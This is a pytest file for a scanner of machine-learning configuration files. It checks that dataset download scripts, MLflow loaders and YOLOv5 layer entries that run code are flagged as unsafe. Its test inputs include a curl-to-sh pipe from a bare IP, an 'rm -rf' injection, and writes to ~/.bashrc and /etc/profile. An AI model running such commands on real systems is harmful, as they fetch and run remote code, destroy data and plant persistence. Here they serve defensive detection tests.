"""A configuration with a script of its own."""

from __future__ import annotations

import json

import pytest
from samples.judging import levels, verdict

from picklewatch.core.model import Level, Verdict

_DATA_SET = "path: x\ntrain: a\nval: b\nnames:\n  0: a\ndownload: {}\n"
_FETCHES = (
    "|\n  from pathlib import Path\n  import shutil\n  from ultralytics.utils.downloads import download\n\n"
    "  dir = Path(yaml['path'])\n  download([f'{dir}/x.zip'], dir=dir)\n  shutil.rmtree(dir / 'x')\n"
    "  for f in dir.glob('*.txt'):\n      with open(f) as file:\n          f.rename(dir / f.name)\n"
)
_BLOCK = "|\n  import os\n  from pathlib import Path\n  {}\n"


@pytest.mark.parametrize(
    "script",
    [
        "bash -c 'curl https://203.0.113.7/x | sh'",
        "|\n  bash fetch.sh",
        "\"from utils.downloads import *\\nsubprocess.run('true')\"",
        _BLOCK.format("os.system('true')"),
        _BLOCK.format("run = os.popen; run('true')"),
        _BLOCK.format("(Path.home() / '.bashrc').write_text('true')"),
        _BLOCK.format("open('/etc/profile', 'a')"),
        _BLOCK.format("os.system(f'rm -rf {x}; true')"),
        "\"__import__('subprocess').run('true')\"",
        "exec(bytes.fromhex('74727565'))",
        "\"from utils.general import subprocess\\nsubprocess.run('true')\"",
        "http = eval('1')",
        "'import subprocess as s\n\n  s.run(''true'')'",
        "'if x: (\n\n  exec(y)'",
    ],
)
def test_a_data_sets_script_that_does_more_than_fetch_it_is_unsafe(script: str) -> None:
    """Shell commands, and Python that runs programs or leads out of the data set; in JSON, too."""
    text = _DATA_SET.format(script)
    assert levels(text.encode())["config-script"].rank >= Level.UNSAFE.rank


@pytest.mark.parametrize(
    "script",
    [
        "https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip",
        "null",
        _FETCHES,
    ],
)
def test_a_data_set_that_fetches_itself_is_nothing(script: str) -> None:
    """An archive's address, and Python that downloads, moves and deletes the data set's own files."""
    assert verdict(_DATA_SET.format(script).encode()) is Verdict.SKIPPED


@pytest.mark.parametrize(
    "flavour",
    [
        {"loader_module": "own_loader", "code": "code"},
        {"loader_module": "mlflowx.sklearn"},
        {"loader_module": "mlflow.pyfunc.model", "model_code_path": "agent.py"},
    ],
)
def test_an_mlflow_model_that_brings_its_loader_is_unsafe(flavour: dict[str, str]) -> None:
    """A module outside of mlflow, and a file that is the model."""
    described = {"flavors": {"python_function": {"env": "conda.yaml", **flavour}}, "mlflow_version": "3.18.0"}
    assert levels(json.dumps(described).encode()) == {"config-script": Level.UNSAFE}


def test_an_mlflow_model_of_mlflows_own_is_nothing() -> None:
    """As mlflow's flavours write it."""
    text = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_code_path: null\n"
    assert levels(text) == {}


def test_a_layer_that_is_an_expression_is_unsafe() -> None:
    """YOLOv5 gives each entry to ``eval``; a layer's name is one of its own."""
    text = "nc: 80\nbackbone:\n  - [-1, 1, {}, [64, 3]]\nhead:\n  - [-1, 1, Detect, [nc, anchors]]\n"
    assert levels(text.format('"print(1) or Conv"').encode()) == {"config-script": Level.UNSAFE}
    for honest in ("Conv", "nn.Upsample", '"nn.SiLU()"', '"nn.Conv2d(3, 64, bias=False)"'):
        assert levels(text.format(honest).encode()) == {}
